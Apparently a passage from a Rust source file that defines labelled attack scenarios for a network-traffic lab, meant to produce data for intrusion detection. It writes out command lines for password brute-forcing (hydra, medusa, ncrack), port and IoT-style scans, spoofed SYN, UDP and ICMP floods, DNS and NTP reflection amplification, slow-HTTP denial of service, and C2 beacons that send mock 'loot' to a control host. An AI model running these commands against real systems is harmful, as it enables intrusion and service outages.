//! Scenarios with an attack: tool × setting × pace. All run against the project's own servers.

use super::scenario::{Course, FAR, LAN, Scenario, WAN, WLAN, attack};
use super::servers::{
    CONTROL, DNS, DNS2TCP, FTP, IMAP, IODINE, IRC, PROXY, SMB, SMTP, SSH, Server, TELNET, TIME,
    UNBOUND, WEB,
};

/// What ordinary users of a web server do meanwhile.
const USERS: &str = "for n in $(seq 1 60); do curl -s -o /dev/null http://s1/p$((n % 40 + 1)).html http://s1/f$n; sleep 0.$((n * 7 % 9))3; done";
/// An ordinary user of a shell meanwhile.
const ADMIN: &str =
    "for n in $(seq 1 20); do sshpass -p right-1 ssh lab@s1 'uptime; ls; sleep 2'; sleep 1; done";

/// All of them.
pub(super) fn scenarios() -> Vec<Scenario> {
    let mut all = brute_force();
    all.extend(scans());
    all.extend(floods());
    all.extend(slow_http());
    all.extend(control());
    all.extend(tunnels());
    all.extend(lateral_and_spam());
    all
}

/// Guessing passwords of one server: name, server, command, course, seconds.
type Guess = (
    &'static str,
    &'static Server,
    u16,
    &'static str,
    Course,
    u64,
);

fn brute_force() -> Vec<Scenario> {
    const GUESSES: &[Guess] = &[
        (
            "medusa-imap",
            &IMAP,
            143,
            "medusa -h $s1 -u lab -P words -M imap -t 3",
            WAN,
            50,
        ),
        (
            "curl-imap-2s",
            &IMAP,
            143,
            "for w in $(head -30 words); do curl -s -u lab:$w imap://s1/; sleep 2; done",
            FAR,
            80,
        ),
        (
            "hydra-ssh-t4",
            &SSH,
            22,
            "hydra -I -l root -P words -t 4 ssh://$s1",
            LAN,
            60,
        ),
        (
            "hydra-ssh-t16-wan",
            &SSH,
            22,
            "hydra -I -L users -P words -t 16 ssh://$s1",
            WAN,
            60,
        ),
        (
            "hydra-ssh-t64",
            &SSH,
            22,
            "hydra -I -l admin -P words -t 64 ssh://$s1",
            LAN,
            40,
        ),
        (
            "hydra-ssh-far",
            &SSH,
            22,
            "hydra -I -l admin -P words -t 8 ssh://$s1",
            FAR,
            80,
        ),
        (
            "medusa-ssh-t2",
            &SSH,
            22,
            "medusa -h $s1 -u root -P words -M ssh -t 2",
            LAN,
            70,
        ),
        (
            "medusa-ssh-t8-wan",
            &SSH,
            22,
            "medusa -h $s1 -U users -P words -M ssh -t 8",
            WAN,
            70,
        ),
        (
            "ncrack-ssh",
            &SSH,
            22,
            "ncrack -v --user root,admin -P words ssh://$s1",
            LAN,
            60,
        ),
        (
            "ncrack-ssh-polite-far",
            &SSH,
            22,
            "ncrack -T2 --user root -P words ssh://$s1",
            FAR,
            85,
        ),
        (
            "patator-ssh",
            &SSH,
            22,
            "patator ssh_login host=$s1 user=root password=FILE0 0=words -t 4",
            WLAN,
            60,
        ),
        (
            "sshpass-ssh-1s",
            &SSH,
            22,
            "for w in $(head -70 words); do sshpass -p $w ssh -o NumberOfPasswordPrompts=1 root@s1 true; sleep 1; done",
            WAN,
            80,
        ),
        (
            "sshpass-ssh-5s",
            &SSH,
            22,
            "for w in $(head -20 words); do sshpass -p $w ssh -o NumberOfPasswordPrompts=1 admin@s1 true; sleep 5; done",
            FAR,
            90,
        ),
        (
            "sshpass-ssh-10s",
            &SSH,
            22,
            "for w in $(head -20 words); do sshpass -p $w ssh -o NumberOfPasswordPrompts=1 pi@s1 true; sleep 9; done",
            WAN,
            90,
        ),
        (
            "hydra-ftp-t1",
            &FTP,
            21,
            "hydra -I -l lab -P words -t 1 ftp://$s1",
            LAN,
            70,
        ),
        (
            "hydra-ftp-t16",
            &FTP,
            21,
            "hydra -I -l lab -P words -t 16 ftp://$s1",
            LAN,
            50,
        ),
        (
            "hydra-ftp-t64-wan",
            &FTP,
            21,
            "hydra -I -L users -P words -t 64 ftp://$s1",
            WAN,
            50,
        ),
        (
            "ncrack-ftp",
            &FTP,
            21,
            "ncrack --user lab,root -P words ftp://$s1",
            WAN,
            60,
        ),
        (
            "patator-ftp-far",
            &FTP,
            21,
            "patator ftp_login host=$s1 user=lab password=FILE0 0=words -t 8",
            FAR,
            70,
        ),
        (
            "curl-ftp-3s",
            &FTP,
            21,
            "for w in $(head -40 words); do curl -s -u lab:$w ftp://s1/; sleep 3; done",
            WAN,
            85,
        ),
        (
            "hydra-http-t4",
            &WEB,
            80,
            "hydra -I -l lab -P words -t 4 http-get://$s1/private/",
            LAN,
            30,
        ),
        (
            "hydra-http-t16-far",
            &WEB,
            80,
            "hydra -I -L users -P words -t 16 http-get://$s1/private/",
            FAR,
            50,
        ),
        (
            "hydra-https-t8",
            &WEB,
            443,
            "hydra -I -l lab -P words -t 8 https-get://$s1/private/",
            WAN,
            45,
        ),
        (
            "medusa-http",
            &WEB,
            80,
            "medusa -h $s1 -u lab -P words -M http -m DIR:/private/ -t 3",
            WAN,
            50,
        ),
        (
            "ncrack-http",
            &WEB,
            80,
            "ncrack --user lab -P words http://$s1:80,path=/private/",
            LAN,
            40,
        ),
        (
            "curl-http-1s",
            &WEB,
            80,
            "for w in $(head -70 words); do curl -s -o /dev/null -u lab:$w http://s1/private/; sleep 1; done",
            WAN,
            80,
        ),
        (
            "hydra-telnet",
            &TELNET,
            23,
            "hydra -I -L users -P words -t 8 telnet://$s1",
            LAN,
            60,
        ),
        (
            "ncrack-telnet",
            &TELNET,
            23,
            "ncrack --user root,admin -P words telnet://$s1",
            FAR,
            70,
        ),
        (
            "hydra-imap",
            &IMAP,
            143,
            "hydra -I -l lab -P words -t 8 imap://$s1",
            LAN,
            50,
        ),
        (
            "medusa-pop3",
            &IMAP,
            110,
            "medusa -h $s1 -u lab -P words -M pop3 -t 4",
            WAN,
            60,
        ),
        (
            "ncrack-pop3",
            &IMAP,
            110,
            "ncrack --user lab -P words pop3://$s1",
            LAN,
            50,
        ),
        (
            "smbclient-1s",
            &SMB,
            445,
            "for w in $(head -60 words); do smbclient -L //s1 -U lab%$w; sleep 1; done",
            WAN,
            70,
        ),
        (
            "smbclient-fast",
            &SMB,
            445,
            "for w in $(head -400 words); do smbclient -L //s1 -U root%$w; done",
            LAN,
            50,
        ),
    ];
    let mut all = Vec::new();
    for (name, server, port, script, course, seconds) in GUESSES {
        let mut one = attack(format!("guess-{name}"), "brute_force")
            .serve("s1", server)
            .run("a1", script)
            .tcp(&[*port])
            .over(*course)
            .seconds(*seconds);
        match port {
            22 => one = one.beside("c1", ADMIN),
            80 | 443 => one = one.beside("c1 c2", USERS),
            _ => {}
        }
        all.push(one);
    }
    let spread = "for w in $(shuf -n 60 words); do sshpass -p $w ssh -o NumberOfPasswordPrompts=1 root@s1 true; sleep 2; done";
    all.push(
        attack("guess-ssh-many-sources", "brute_force")
            .serve("s1", &SSH)
            .run("a1 a2 a3 a4 a5 a6 a7 a8", spread)
            .beside("c1", ADMIN)
            .over(WAN)
            .seconds(80),
    );
    all.push(
        attack("guess-ssh-many-targets", "brute_force")
            .serve("s1 s2 s3 s4 s5", &SSH)
            .run(
                "a1",
                "printf '%s\\n' $s1 $s2 $s3 $s4 $s5 >targets; hydra -I -l root -P words -t 3 -M targets ssh",
            )
            .over(WLAN)
            .seconds(60),
    );
    all.push(
        attack("guess-ssh-infected-inside", "brute_force")
            .serve("w1 w2 w3", &SSH)
            .run("x1", "for w in $(head -30 words); do for h in w1 w2 w3; do sshpass -p $w ssh -o NumberOfPasswordPrompts=1 root@$h true; done; done")
            .over(WAN)
            .seconds(70),
    );
    all
}

fn scans() -> Vec<Scenario> {
    // Name, command, course, seconds.
    const NMAP: &[(&str, &str, Course, u64)] = &[
        ("syn-t4", "nmap -n -Pn -sS -T4 $s1 $s2", LAN, 40),
        ("syn-t3-wan", "nmap -n -Pn -sS -T3 -p 1-3000 $s1", WAN, 60),
        ("syn-t5-all", "nmap -n -Pn -sS -T5 -p 1-8000 $s1", LAN, 40),
        ("syn-t2", "nmap -n -Pn -sS -T2 -F $s1", WLAN, 70),
        (
            "syn-slow",
            "nmap -n -Pn -sS --scan-delay 1s --max-retries 0 -F $s1",
            WAN,
            90,
        ),
        ("syn-far", "nmap -n -Pn -sS $s1", FAR, 80),
        ("syn-6", "nmap -6 -n -Pn -sS $s1_6", LAN, 40),
        ("connect", "nmap -n -Pn -sT $s1 $s2", LAN, 40),
        (
            "connect-far",
            "nmap -n -Pn -sT --top-ports 400 $s1",
            FAR,
            70,
        ),
        (
            "connect-6",
            "nmap -6 -n -Pn -sT --top-ports 600 $s1_6",
            WAN,
            50,
        ),
        ("fin", "nmap -n -Pn -sF $s1", LAN, 40),
        ("null", "nmap -n -Pn -sN --top-ports 500 $s1", WAN, 50),
        ("xmas", "nmap -n -Pn -sX --top-ports 700 $s1", WLAN, 50),
        ("ack", "nmap -n -Pn -sA $s1", WAN, 40),
        ("maimon", "nmap -n -Pn -sM --top-ports 300 $s1", LAN, 40),
        ("udp", "nmap -n -Pn -sU --top-ports 200 $s1", LAN, 80),
        (
            "udp-fast",
            "nmap -n -Pn -sU --top-ports 400 --min-rate 200 --max-retries 1 $s1",
            WAN,
            50,
        ),
        (
            "version",
            "nmap -n -Pn -sV --version-light --top-ports 200 $s1",
            LAN,
            70,
        ),
        ("scripts", "nmap -n -Pn -sC -F $s1", WAN, 80),
        ("all", "nmap -n -A -F $s1 $s2", LAN, 90),
        (
            "fragments",
            "nmap -n -Pn -f -sS --top-ports 300 $s1",
            LAN,
            40,
        ),
        (
            "decoys",
            "nmap -n -Pn -sS -g 53 --data-length 24 --top-ports 600 $s1",
            WAN,
            40,
        ),
        (
            "sweep-ping",
            "nmap -n -sn -PE 198.19.1.0/24 198.19.2.0/24",
            LAN,
            60,
        ),
        (
            "sweep-22",
            "nmap -n -Pn -sS -p 22 198.19.1.0/24 198.19.2.0/24 198.19.30.0/23",
            LAN,
            60,
        ),
        (
            "sweep-445-slow",
            "nmap -n -Pn -sS -p 445 --max-rate 8 --max-retries 1 198.19.1.0/24",
            WAN,
            80,
        ),
        (
            "sweep-3-ports",
            "nmap -n -Pn -sT -p 80,443,8080 198.19.1.0/24 198.19.2.0/24",
            WAN,
            80,
        ),
        (
            "sweep-6",
            "nmap -6 -n -Pn -sS -p 22,80 --max-retries 1 fd00:6e6d:6d::/120",
            LAN,
            50,
        ),
    ];
    let mut all = Vec::new();
    for (name, script, course, seconds) in NMAP {
        all.push(
            attack(format!("scan-nmap-{name}"), "port_scan")
                .serve("s1", &WEB)
                .serve("s2", &SSH)
                .run("a1", script)
                .beside("c1", USERS)
                .over(*course)
                .seconds(*seconds),
        );
    }
    const OTHERS: &[(&str, &str, Course, u64)] = &[
        (
            "masscan-200",
            "masscan --rate 200 -p 1-4000 --wait 2 --interface eth0 --router-mac $mac $s1",
            LAN,
            40,
        ),
        (
            "masscan-2000-sweep",
            "masscan --rate 2000 -p 22,80 --wait 2 198.19.1.0/24 198.19.16.0/22",
            LAN,
            30,
        ),
        (
            "masscan-50-sweep",
            "masscan --rate 50 -p 3389 --wait 2 198.19.2.0/24 198.19.40.0/21",
            WAN,
            60,
        ),
        ("hping-range", "hping3 --scan 1-1500 -S $s1", LAN, 60),
        (
            "hping-incr",
            "hping3 -S -p ++1 -i u20000 -c 3000 $s1",
            WAN,
            70,
        ),
        (
            "hping-udp",
            "hping3 --udp -p ++100 -i u50000 -c 1500 $s1",
            WLAN,
            70,
        ),
        (
            "hping-fin",
            "hping3 -F -p ++1 -i u10000 -c 4000 $s1",
            LAN,
            50,
        ),
        ("nc-range", "nc -n -v -z -w 1 $s1 1-2500", LAN, 60),
        ("nc-far", "nc -n -v -z -w 2 $s1 20-300", FAR, 80),
        (
            "nc-hosts",
            "for n in $(seq 1 60); do nc -n -z -w 1 198.19.1.$n 22; done",
            WAN,
            80,
        ),
        ("nc-udp", "nc -n -u -v -z -w 1 $s1 100-180", LAN, 90),
        (
            "ncat-slow",
            "for p in $(shuf -i 1-9000 -n 60); do ncat -n -z -w 1 $s1 $p; sleep 1; done",
            WAN,
            80,
        ),
        (
            "bash-shuffled",
            "for p in $(shuf -i 1-20000 -n 900); do timeout 1 busybox nc -w 1 $s1 $p </dev/null; done",
            WLAN,
            60,
        ),
        (
            "socat-parallel",
            "for p in $(seq 7000 7600); do timeout 2 socat -u OPEN:/dev/null TCP:$s1:$p,connect-timeout=1 & sleep 0.03; done; wait",
            WAN,
            40,
        ),
        (
            "fping-sweep",
            "fping -q -r 1 -g 198.19.1.0/24; fping -q -g 198.19.2.0/24",
            LAN,
            40,
        ),
        (
            "onesixtyone",
            "seq -f 198.19.1.%g 1 254 >h; onesixtyone -i h -w 20",
            LAN,
            40,
        ),
        (
            "nbtscan",
            "nbtscan -q 198.19.1.0/24; nbtscan -q -v 198.19.2.0/24",
            WAN,
            60,
        ),
        (
            "nmap-slow-hosts",
            "nmap -n -Pn -sS -p 23 --scan-delay 500ms --max-retries 0 198.19.1.0/24",
            FAR,
            80,
        ),
        (
            "two-scanners",
            "nmap -n -Pn -sS -T4 --top-ports 800 $s1",
            WAN,
            50,
        ),
    ];
    for (name, script, course, seconds) in OTHERS {
        let attackers = if *name == "two-scanners" {
            "a1 a2"
        } else {
            "a1"
        };
        all.push(
            attack(format!("scan-{name}"), "port_scan")
                .serve("s1", &WEB)
                .serve("s2", &SSH)
                .run(
                    attackers,
                    &script.replace("--interface eth0 --router-mac $mac ", ""),
                )
                .beside("c1", USERS)
                .over(*course)
                .seconds(*seconds),
        );
    }
    for (name, script) in [
        (
            "nmap-http",
            "nmap -n -Pn -p 80,443,8080 --script http-enum,http-headers,http-methods,http-title,ssl-cert $s1",
        ),
        (
            "curl-paths",
            "for w in $(shuf -n 600 words); do echo \"url=http://s1/$w\"; echo 'output=/dev/null'; done >l; curl -s -K l",
        ),
        (
            "curl-paths-new",
            "for w in $(shuf -n 500 words); do curl -s -o /dev/null http://s1/$w.php; done",
        ),
        (
            "ab-not-found",
            "for w in $(shuf -n 80 words); do ab -n 10 -c 5 http://$s1/$w; done",
        ),
        (
            "curl-tls-paths",
            "for w in $(shuf -n 300 words); do curl -sk -o /dev/null https://s1/$w; sleep 0.1; done",
        ),
    ] {
        all.push(
            attack(format!("vuln-{name}"), "vuln_scan")
                .serve("s1", &WEB)
                .run("a1", script)
                .beside("c1", USERS)
                .over(if name.starts_with("curl") { WAN } else { LAN })
                .seconds(50),
        );
    }
    // An infected device calls on addresses at random, nearly all dead.
    for (name, script, course) in [
        (
            "telnet-5",
            "masscan --rate 5 -p 23 --wait 1 198.19.101.0/24 198.19.128.0/18",
            WLAN,
        ),
        (
            "telnet-50",
            "masscan --rate 50 -p 23,2323 --wait 1 198.19.101.0/24 198.19.128.0/18",
            WAN,
        ),
        (
            "telnet-500",
            "masscan --rate 500 -p 23 --wait 1 198.19.101.0/24 198.19.64.0/18",
            LAN,
        ),
        (
            "hping-20",
            "for n in $(seq 1 1500); do hping3 -q -S -c 1 -p 23 198.19.$((n * 37 % 190 + 1)).$((n * 101 % 250)) >/dev/null 2>&1 & sleep 0.05; done",
            WAN,
        ),
        (
            "nc-10",
            "for n in $(seq 1 700); do timeout 3 nc -n -w 3 198.19.$((n * 53 % 190 + 1)).$((n * 89 % 250)) 23 </dev/null & sleep 0.1; done",
            WAN,
        ),
        (
            "nmap-random",
            "nmap -n -Pn -sS -p 23,2323 --max-retries 0 --min-rate 30 --max-rate 30 198.19.101.0/24 198.19.150-180.1-60",
            WLAN,
        ),
        (
            "zmap-100",
            "zmap -i eth0 -G $gw -p 23 -r 100 -n 4000 -c 2 --blacklist-file=/dev/null 198.19.128.0/18 -o /dev/null",
            LAN,
        ),
        (
            "adb-20",
            "masscan --rate 20 -p 5555 --wait 1 198.19.128.0/18",
            WAN,
        ),
        (
            "ssh-15",
            "masscan --rate 15 -p 22 --wait 1 198.19.101.0/24 198.19.128.0/18",
            FAR,
        ),
    ] {
        let gateway = "ping -c 1 -W 1 198.18.0.253 >/dev/null; gw=$(ip neigh show 198.18.0.253 | sed 's/.*lladdr //; s/ .*//');";
        all.push(
            attack(format!("iot-scan-{name}"), "iot_malware_scan")
                .serve("w1", &TELNET)
                .serve("w2", &DNS)
                .run("x1", &format!("{gateway} {script}"))
                .beside(
                    "i1",
                    "for n in $(seq 1 60); do dig +short host$n.example >/dev/null; sleep 1; done",
                )
                .over(course)
                .seconds(60),
        );
    }
    all
}

fn floods() -> Vec<Scenario> {
    let mut all = Vec::new();
    for (name, script, course, spoofed, port) in [
        (
            "one-1000",
            "hping3 -q -S -p 80 -i u1000 $s1",
            LAN,
            false,
            80,
        ),
        (
            "one-100",
            "hping3 -q -S -p 443 -i u10000 $s1",
            WAN,
            false,
            443,
        ),
        ("one-fast", "hping3 -q -S -p 80 --flood $s1", LAN, false, 80),
        (
            "one-closed",
            "hping3 -q -S -p 81 -i u2000 $s1",
            LAN,
            false,
            81,
        ),
        (
            "one-data",
            "hping3 -q -S -p 80 -d 120 -i u3000 $s1",
            WAN,
            false,
            80,
        ),
        (
            "many-fast",
            "hping3 -q -S -p 80 --flood --rand-source $s1",
            LAN,
            true,
            80,
        ),
        (
            "many-1000",
            "hping3 -q -S -p 443 -i u1000 --rand-source $s1",
            WAN,
            true,
            443,
        ),
        (
            "many-300",
            "hping3 -q -S -p 22 -i u3000 --rand-source $s1",
            LAN,
            true,
            22,
        ),
        (
            "many-closed",
            "hping3 -q -S -p 8081 -i u1500 --rand-source $s1",
            WLAN,
            true,
            8_081,
        ),
    ] {
        let mut one = attack(format!("flood-syn-{name}"), "syn_flood")
            .serve("s1", &WEB)
            .serve("s2", &WEB)
            .run("a1", script)
            .beside("c1 c2", &USERS.replace("s1", "s2"))
            .victims("s1")
            .tcp(&[port])
            .over(course)
            .frames(12_000)
            .seconds(20);
        if spoofed {
            one = one.spoofed();
        }
        all.push(one);
    }
    all.push(
        attack("flood-syn-several", "syn_flood")
            .serve("s1", &WEB)
            .run("a1 a2 a3 a4 a5", "hping3 -q -S -p 80 -i u8000 $s1")
            .beside("c1", USERS)
            .over(WAN)
            .seconds(20),
    );
    for (name, script, course, spoofed) in [
        (
            "one-port",
            "hping3 -q --udp -p 53 -i u1000 -d 64 $s1",
            LAN,
            false,
        ),
        (
            "ports",
            "hping3 -q --udp -p ++1 -i u2000 -d 400 $s1",
            WAN,
            false,
        ),
        (
            "large",
            "hping3 -q --udp -p 9000 -i u2500 -d 1400 $s1",
            LAN,
            false,
        ),
        ("fast", "hping3 -q --udp -p 80 --flood $s1", LAN, false),
        (
            "many",
            "hping3 -q --udp -p 27015 --rand-source -i u1000 -d 30 $s1",
            LAN,
            true,
        ),
        (
            "many-dns",
            "hping3 -q --udp -p 53 --rand-source -i u1500 -d 40 $s1",
            WAN,
            true,
        ),
        (
            "iperf",
            "while :; do timeout 8 socat -u -b 512 OPEN:/dev/zero UDP-SENDTO:$s1:5000; done",
            LAN,
            false,
        ),
        (
            "nping",
            "nping --udp -p 123 --rate 800 -c 12000 --data-length 8 $s1",
            WLAN,
            false,
        ),
    ] {
        let mut one = attack(format!("flood-udp-{name}"), "udp_flood")
            .serve("s1", &WEB)
            .serve("s2", &DNS)
            .run("a1", script)
            .beside(
                "c1 c2",
                "for n in $(seq 1 60); do dig +short host$n.example >/dev/null; sleep 0.3; done",
            )
            .victims("s1")
            .over(course)
            .frames(10_000)
            .seconds(20);
        if spoofed {
            one = one.spoofed();
        }
        all.push(one);
    }
    for (name, script, course, spoofed) in [
        ("one-1000", "hping3 -q --icmp -i u1000 $s1", LAN, false),
        (
            "one-200",
            "hping3 -q --icmp -i u5000 -d 800 $s1",
            WAN,
            false,
        ),
        ("flood", "hping3 -q --icmp --flood $s1", LAN, false),
        ("ping-f", "ping -q -f -s 1200 $s1", LAN, false),
        (
            "many",
            "hping3 -q --icmp --rand-source -i u1000 $s1",
            LAN,
            true,
        ),
        ("nping", "nping --icmp --rate 400 -c 8000 $s1", WLAN, false),
        (
            "timestamp",
            "hping3 -q --icmp -C 13 -i u2000 $s1",
            WAN,
            false,
        ),
    ] {
        let mut one = attack(format!("flood-icmp-{name}"), "icmp_flood")
            .serve("s2", &WEB)
            .run("a1", script)
            .beside("c1", "ping -q -i 1 -c 30 $s2")
            .beside("c2", &USERS.replace("s1", "s2"))
            .victims("s1")
            .over(course)
            .frames(8_000)
            .seconds(20);
        if spoofed {
            one = one.spoofed();
        }
        all.push(one);
    }
    for (name, script, hosts, course) in [
        (
            "ab-c50",
            "ab -q -r -t 20 -n 1000000 -c 50 http://$s1/p1.html",
            "a1",
            LAN,
        ),
        (
            "ab-c200-wan",
            "ab -q -r -t 25 -n 1000000 -c 200 http://$s1/",
            "a1",
            WAN,
        ),
        (
            "ab-keep",
            "ab -q -r -k -t 20 -n 1000000 -c 100 http://$s1/f2",
            "a1",
            LAN,
        ),
        (
            "wrk",
            "wrk -t 2 -c 120 -d 20 http://$s1/p3.html",
            "a1",
            WLAN,
        ),
        (
            "wrk-close",
            "wrk -t 1 -c 60 -d 20 -H 'Connection: close' http://$s1/none",
            "a1",
            WAN,
        ),
        (
            "siege",
            "siege -q -b -c 80 -t 20S http://$s1/p2.html",
            "a1",
            LAN,
        ),
        (
            "siege-many",
            "siege -q -b -c 30 -t 25S http://$s1/",
            "a1 a2 a3 a4 a5 a6",
            WAN,
        ),
        (
            "httperf",
            "httperf --server $s1 --port 80 --uri /p5.html --rate 400 --num-conns 6000 --timeout 2",
            "a1",
            LAN,
        ),
        (
            "hydra-of-tls",
            "ab -q -r -t 20 -n 100000 -c 40 https://$s1/none",
            "a1",
            WAN,
        ),
        (
            "curl-storm",
            "for n in $(seq 1 40); do (while :; do curl -s -o /dev/null http://$s1/f1; done) & done; sleep 20",
            "a1 a2",
            WAN,
        ),
    ] {
        all.push(
            attack(format!("flood-http-{name}"), "http_flood")
                .serve("s1", &WEB)
                .run(hosts, script)
                .beside("c1 c2", USERS)
                .over(course)
                .seconds(30),
        );
    }
    for (name, server, script, course) in [
        (
            "dns-any",
            &DNS,
            "hping3 -q --udp -a $s5 -s 4444 -k -p 53 -E q -d 29 -i u2000 $w1",
            LAN,
        ),
        (
            "dns-txt",
            &UNBOUND,
            "hping3 -q --udp -a $s5 -s 80 -k -p 53 -E q -d 29 -i u5000 $w1",
            WAN,
        ),
        (
            "dns-ports",
            &UNBOUND,
            "hping3 -q --udp -a $s5 -p 53 -k -s 1234 -E q -d 29 -i u1000 $w2 & hping3 -q --udp -a $s5 -p 53 -k -E q -d 29 -i u1000 $w1",
            LAN,
        ),
        (
            "ntp",
            &TIME,
            "hping3 -q --udp -a $s5 -s 53 -k -p 123 -E t -d 48 -i u1000 $w1",
            LAN,
        ),
        (
            "ntp-slow",
            &TIME,
            "hping3 -q --udp -a $s5 -s 8080 -k -p 123 -E t -d 48 -i u6000 $w2",
            FAR,
        ),
    ] {
        // Answers come in fragments, so no port tells the attack.
        // Question for big.example TXT with EDNS0, and a client's time request.
        let prepare = r"printf '\022\064\001\000\000\001\000\000\000\000\000\001\003big\007example\000\000\020\000\001\000\000\051\020\000\000\000\000\000\000\000' >q; { printf '\043'; head -c 47 /dev/zero; } >t; ";
        let script = script.replace("-d 29", "-d 40");
        all.push(
            attack(format!("amplify-{name}"), "reflection_amp")
                .serve("w1 w2 w3", server)
                .run("a1", &format!("{prepare} {script}"))
                .beside("i1 i2", "for n in $(seq 1 60); do dig +short @$w1 host$n.example >/dev/null; sleep 0.5; done")
                .victims("s5")
                .spoofed()
                .over(course)
                .frames(10_000)
                .seconds(20),
        );
    }
    all
}

fn slow_http() -> Vec<Scenario> {
    let mut all = Vec::new();
    for (name, server, script, course) in [
        (
            "headers-200",
            &WEB,
            "slowhttptest -H -c 200 -i 5 -r 50 -l 55 -u http://$s1/",
            LAN,
        ),
        (
            "headers-600",
            &PROXY,
            "slowhttptest -H -c 600 -i 8 -r 200 -l 55 -u http://$s1/",
            WAN,
        ),
        (
            "headers-30",
            &WEB,
            "slowhttptest -H -c 30 -i 10 -r 2 -l 75 -u http://$s1/",
            FAR,
        ),
        (
            "body-150",
            &WEB,
            "slowhttptest -B -c 150 -i 4 -r 30 -l 55 -s 8192 -x 10 -u http://$s1/post",
            LAN,
        ),
        (
            "body-400-wan",
            &PROXY,
            "slowhttptest -B -c 400 -i 10 -r 100 -l 60 -s 8192 -u http://$s1/post",
            WAN,
        ),
        (
            "body-40",
            &WEB,
            "slowhttptest -B -c 40 -i 6 -r 3 -l 70 -s 4096 -u http://$s1/post",
            WLAN,
        ),
        (
            "range",
            &WEB,
            "slowhttptest -R -c 150 -r 30 -l 40 -u http://$s1/large",
            LAN,
        ),
        (
            "read-100",
            &WEB,
            "slowhttptest -X -c 100 -r 20 -w 10 -y 20 -n 5 -z 32 -k 3 -l 50 -u http://$s1/large",
            LAN,
        ),
        (
            "read-300-wan",
            &WEB,
            "slowhttptest -X -c 300 -r 60 -w 256 -y 1024 -n 5 -z 32 -k 3 -l 50 -u http://$s1/middle",
            WAN,
        ),
        (
            "tls-headers",
            &WEB,
            "slowhttptest -H -c 100 -i 6 -r 20 -l 50 -u https://$s1/",
            WAN,
        ),
        (
            "silent",
            &PROXY,
            "for n in $(seq 1 150); do (sleep 40 | ncat $s1 80) & sleep 0.1; done; sleep 30",
            WLAN,
        ),
    ] {
        all.push(
            attack(format!("slow-{name}"), "slow_http_dos")
                .serve("s1", server)
                .run("a1", script)
                .beside("c1 c2", USERS)
                .over(course)
                .seconds(70),
        );
    }
    all.push(
        attack("slow-headers-several", "slow_http_dos")
            .serve("s1", &WEB)
            .run(
                "a1 a2 a3 a4 a5",
                "slowhttptest -H -c 50 -i 7 -r 10 -l 50 -u http://$s1/",
            )
            .beside("c1 c2", USERS)
            .over(WAN)
            .seconds(60),
    );
    all
}

fn control() -> Vec<Scenario> {
    /// Ordinary traffic of the infected host's neighbour.
    const NEIGHBOUR: &str = "for n in $(seq 1 40); do curl -sk -o /dev/null https://w2/p$((n * 7 % 40 + 1)).html https://w2/f$n; dig +short host$n.example @$w3 >/dev/null; sleep 1.$((n % 9)); done";
    let mut all = Vec::new();
    // Beacons: interval in tenths of a second, jitter in percent, what is called.
    for (name, kind, tenths, jitter, call, course) in [
        (
            "http-1s",
            "c2_framework",
            10,
            0,
            "curl -s -o r http://w1/task?id=7",
            LAN,
        ),
        (
            "http-2s-j20",
            "c2_framework",
            20,
            20,
            "curl -s -o r http://w1/task?id=7",
            WAN,
        ),
        (
            "http-5s-j50",
            "c2_framework",
            50,
            50,
            "curl -s -o r -A Mozilla/5.0 http://w1/task",
            WAN,
        ),
        (
            "http-post-3s",
            "c2_framework",
            30,
            10,
            "curl -s -o r -d @hello http://w1/post",
            FAR,
        ),
        (
            "http-10s",
            "c2_botnet",
            100,
            0,
            "curl -s -o r http://w1/task?bot=1",
            WAN,
        ),
        (
            "https-2s",
            "c2_framework",
            20,
            0,
            "curl -sk -o r https://w1/task",
            WAN,
        ),
        (
            "https-5s-j30",
            "c2_framework",
            50,
            30,
            "curl -sk -o r https://w1/task",
            FAR,
        ),
        (
            "https-post-1s-j50",
            "c2_framework",
            10,
            50,
            "curl -sk -o r -d @hello https://w1:8443/post",
            WLAN,
        ),
        (
            "https-8s-j20",
            "c2_framework",
            80,
            20,
            "curl -sk -o r https://w1/f1",
            WAN,
        ),
        (
            "raw-3s",
            "c2_botnet",
            30,
            10,
            "echo PING me | timeout 1 ncat w1 4444",
            WAN,
        ),
        (
            "raw-1s",
            "c2_botnet",
            10,
            0,
            "echo CHECK me | timeout 0.8 ncat w1 4444",
            LAN,
        ),
        (
            "tls-4s-j40",
            "c2_botnet",
            40,
            40,
            "printf 'GET /task HTTP/1.0\\r\\n\\r\\n' | timeout 2 openssl s_client -quiet -connect w1:443",
            WAN,
        ),
        (
            "dns-2s",
            "c2_botnet",
            20,
            20,
            "dig +short -t TXT x$n.host1.example @$w3",
            WAN,
        ),
        (
            "dead-3s",
            "c2_botnet",
            30,
            30,
            "timeout 2 curl -s -m 2 http://198.19.140.9/task",
            WAN,
        ),
        (
            "refused-2s",
            "c2_botnet",
            20,
            20,
            "curl -s -m 2 http://w1:9999/task",
            FAR,
        ),
    ] {
        let script = format!(
            "head -c 300 /dev/urandom | base64 >hello; head -c 60000 /dev/urandom >loot; n=0; \
             while [ $n -lt 300 ]; do n=$((n + 1)); {call} >/dev/null 2>&1; \
             [ $((n % 17)) = 0 ] && curl -sk -o /dev/null --data-binary @loot https://w1/post; \
             sleep $(awk -v b={tenths} -v j={jitter} -v s=$n 'BEGIN{{srand(s);printf \"%.2f\",b/10*(1+j/100*(2*rand()-1))}}'); done"
        );
        all.push(
            attack(format!("beacon-{name}"), kind)
                .serve("w1 w2", &WEB)
                .serve("w3", &DNS)
                .serve("w1", &CONTROL)
                .run("x1", &script)
                .beside("i1 i2", NEIGHBOUR)
                .over(course)
                .seconds(88),
        );
    }
    // Connections that stay: a bot in a channel, a controller that says something now and then.
    let bot = "(printf 'NICK bot%s\\r\\nUSER b 0 * :b\\r\\n' $$; sleep 1; printf 'JOIN #cmd\\r\\n'; for n in $(seq 1 40); do sleep 2; printf 'PING :x\\r\\n'; [ $((n % 9)) = 0 ] && printf 'PRIVMSG #cmd :done %d\\r\\n' $n; done) | ncat w4 6667 >/dev/null";
    all.push(
        attack("bot-irc", "c2_botnet")
            .serve("w4", &IRC)
            .serve("w2", &WEB)
            .serve("w3", &DNS)
            .run("x1 x2 x3", bot)
            .beside("i1", NEIGHBOUR)
            .over(WAN)
            .seconds(85),
    );
    let stay = "(for n in $(seq 1 200); do echo PING $n; sleep P; done) | ncat w1 4444 >/dev/null";
    for (name, pause, course) in [("1s", "1", WAN), ("4s", "4", FAR), ("fast", "0.2", LAN)] {
        all.push(
            attack(format!("bot-stays-{name}"), "c2_botnet")
                .serve("w1", &CONTROL)
                .serve("w2", &WEB)
                .serve("w3", &DNS)
                .run(
                    "x1",
                    &stay
                        .replace('P', pause)
